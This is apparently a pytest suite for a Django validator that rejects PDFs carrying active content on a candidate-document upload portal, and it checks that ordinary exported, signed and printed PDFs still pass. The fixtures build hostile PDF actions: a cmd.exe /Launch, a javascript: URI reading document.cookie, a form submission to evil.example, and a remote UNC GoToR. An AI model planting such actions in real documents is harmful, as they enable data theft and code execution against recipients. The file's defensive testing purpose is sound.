"""PDF active content is refused wherever it sits in the object graph; what is passive (a
LibreOffice export's open-at-page-1, a Chromium print-to-PDF, a signed PDF, http(s) links,
form fields without actions) is accepted, so real people's documents get through."""

import io

import pytest
from django.core.exceptions import ValidationError
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    BooleanObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NullObject,
    NumberObject,
    TextStringObject,
)

from candidates.uploads import inspect_upload
from tests.files import pdf_bytes, upload

N = NameObject


def action(kind: str, **entries) -> DictionaryObject:
    return DictionaryObject({N("/S"): N(kind), **{N(f"/{k}"): v for k, v in entries.items()}})


def build(change) -> bytes:
    """A two-page PDF, changed by ``change(writer)`` before it is written."""
    writer = PdfWriter()
    for _ in range(2):
        writer.add_blank_page(width=595, height=842)
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def link(writer, page: int, a: DictionaryObject) -> None:
    annotation = DictionaryObject(
        {
            N("/Type"): N("/Annot"),
            N("/Subtype"): N("/Link"),
            N("/Rect"): ArrayObject(
                [NumberObject(50), NumberObject(50), NumberObject(200), NumberObject(80)]
            ),
            N("/A"): writer._add_object(a),
        }
    )
    pdf_page = writer.pages[page]
    annots = pdf_page.get("/Annots") or ArrayObject()
    annots.append(writer._add_object(annotation))
    pdf_page[N("/Annots")] = annots


def rendition_with_js(writer):
    link(writer, 1, action("/Rendition", JS=TextStringObject("app.alert(1)"), OP=NumberObject(0)))


def next_chain_six_deep(writer):
    tail = action("/JavaScript", JS=TextStringObject("this.exportDataObject({cName:'x'})"))
    for _ in range(6):
        tail = action(
            "/GoTo",
            D=ArrayObject([writer.pages[0].indirect_reference, N("/Fit")]),
            Next=writer._add_object(tail),
        )
    writer._root_object[N("/OpenAction")] = writer._add_object(tail)


def field_with_aa_and_no_widget(writer):
    field = DictionaryObject(
        {
            N("/FT"): N("/Tx"),
            N("/T"): TextStringObject("hidden"),
            N("/AA"): DictionaryObject({N("/K"): action("/JavaScript", JS=TextStringObject("app.alert(2)"))}),
        }
    )
    writer._root_object[N("/AcroForm")] = DictionaryObject(
        {N("/Fields"): ArrayObject([writer._add_object(field)])}
    )


def javascript_uri(writer):
    link(writer, 0, action("/URI", URI=TextStringObject("javascript:alert(document.cookie)")))


def launch(writer):
    link(writer, 0, action("/Launch", F=TextStringObject("cmd.exe")))


def submit_form(writer):
    link(writer, 0, action("/SubmitForm", F=TextStringObject("https://evil.example/collect")))


def import_data(writer):
    writer._root_object[N("/OpenAction")] = writer._add_object(
        action("/ImportData", F=TextStringObject("x.fdf"))
    )


def remote_goto(writer):
    link(
        writer,
        0,
        action(
            "/GoToR",
            F=TextStringObject("\\\\evil\\share\\a.pdf"),
            D=ArrayObject([NumberObject(0), N("/Fit")]),
        ),
    )


def page_aa_javascript(writer):
    writer.pages[1][N("/AA")] = DictionaryObject({N("/O"): action("/JavaScript", JS=TextStringObject("1"))})


def outline_javascript(writer):
    writer.add_outline_item(title="目录", page_number=0)
    outline = writer._root_object["/Outlines"].get_object()
    first = outline["/First"].get_object()
    first[N("/A")] = writer._add_object(action("/JavaScript", JS=TextStringObject("1")))


def xfa_form(writer):
    writer._root_object[N("/AcroForm")] = DictionaryObject(
        {N("/Fields"): ArrayObject(), N("/XFA"): TextStringObject("<xdp/>")}
    )


def rich_media(writer):
    annotation = DictionaryObject({N("/Type"): N("/Annot"), N("/Subtype"): N("/RichMedia")})
    writer.pages[0][N("/Annots")] = ArrayObject([writer._add_object(annotation)])


ACTIVE = {
    "rendition carrying /JS": rendition_with_js,
    "a /Next chain six deep ending in JavaScript": next_chain_six_deep,
    "a form field with /AA and no widget": field_with_aa_and_no_widget,
    "a javascript: URI link": javascript_uri,
    "/Launch": launch,
    "/SubmitForm": submit_form,
    "/ImportData": import_data,
    "/GoToR": remote_goto,
    "/AA on a page": page_aa_javascript,
    "an outline item running JavaScript": outline_javascript,
    "XFA": xfa_form,
    "a RichMedia annotation": rich_media,
}


@pytest.mark.parametrize("change", ACTIVE.values(), ids=ACTIVE.keys())
def test_active_content_anywhere_is_refused(change):
    with pytest.raises(ValidationError) as error:
        inspect_upload(upload("scan.pdf", build(change)))
    assert error.value.code == "active_content"
    assert "活动内容" in error.value.messages[0]


@pytest.mark.parametrize("kind", ["javascript", "attachment"])
def test_the_earlier_cases_stay_refused(kind):
    with pytest.raises(ValidationError) as error:
        inspect_upload(upload("scan.pdf", pdf_bytes(1, **{kind: True})))
    assert error.value.code == "active_content"


def libreoffice_export(writer):
    """What LibreOffice's PDF export writes with its defaults: open at page 1 (a destination,
    not an action), viewer preferences, page layout, an http link, a form field with no action."""
    writer._root_object[N("/OpenAction")] = ArrayObject(
        [writer.pages[0].indirect_reference, N("/XYZ"), NullObject(), NullObject(), FloatObject(0)]
    )
    writer._root_object[N("/PageMode")] = N("/UseNone")
    writer._root_object[N("/PageLayout")] = N("/SinglePage")
    writer._root_object[N("/ViewerPreferences")] = DictionaryObject(
        {N("/DisplayDocTitle"): BooleanObject(True)}
    )
    link(writer, 0, action("/URI", URI=TextStringObject("https://www.chsi.com.cn/xlcx/")))
    link(writer, 1, action("/GoTo", D=ArrayObject([writer.pages[0].indirect_reference, N("/Fit")])))
    field = DictionaryObject(
        {N("/FT"): N("/Tx"), N("/T"): TextStringObject("姓名"), N("/V"): TextStringObject("王小明")}
    )
    writer._root_object[N("/AcroForm")] = DictionaryObject(
        {N("/Fields"): ArrayObject([writer._add_object(field)])}
    )
    writer.add_outline_item(title="第 1 页", page_number=0)


def test_a_libreoffice_export_is_accepted():
    inspected = inspect_upload(upload("工作年限证明.pdf", build(libreoffice_export)))
    assert inspected.page_count == 2


def test_a_signed_pdf_is_accepted(settings, tmp_path):
    """A PAdES-signed PDF (as the 学信网 备案表 and the portal's own e-certificates are)."""
    from notices.signing import make_signing_pair, sign_pdf

    key_file, cert_file = make_signing_pair(tmp_path, common_name="学历证书电子注册备案表")
    settings.PORTAL_SIGNING_KEY_FILE, settings.PORTAL_SIGNING_CERT_FILE = str(key_file), str(cert_file)
    signed = sign_pdf(pdf_bytes(1))
    assert b"/ByteRange" in signed
    assert inspect_upload(upload("备案表.pdf", signed)).page_count == 1


@pytest.mark.e2e
def test_a_chromium_print_to_pdf_is_accepted(tmp_path):
    """What candidates do with an online query result page: print it to PDF in the browser."""
    from playwright.sync_api import sync_playwright

    page_file = tmp_path / "result.html"
    page_file.write_text(
        '<html><head><meta charset="utf-8"><title>查询结果</title></head><body>'
        '<h1>学历查询结果</h1><p>姓名：王小明</p><p><a href="https://www.chsi.com.cn/">学信网</a></p>'
        '<p><a href="#top">返回顶部</a></p></body></html>',
        encoding="utf-8",
    )
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path="/usr/bin/chromium",
            args=["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--no-first-run"],
        )
        try:
            page = browser.new_page()
            page.goto(page_file.as_uri())
            printed = page.pdf(format="A4")
        finally:
            browser.close()
    assert printed.startswith(b"%PDF") and b"/URI" in printed
    assert inspect_upload(upload("查询结果.pdf", printed)).page_count >= 1
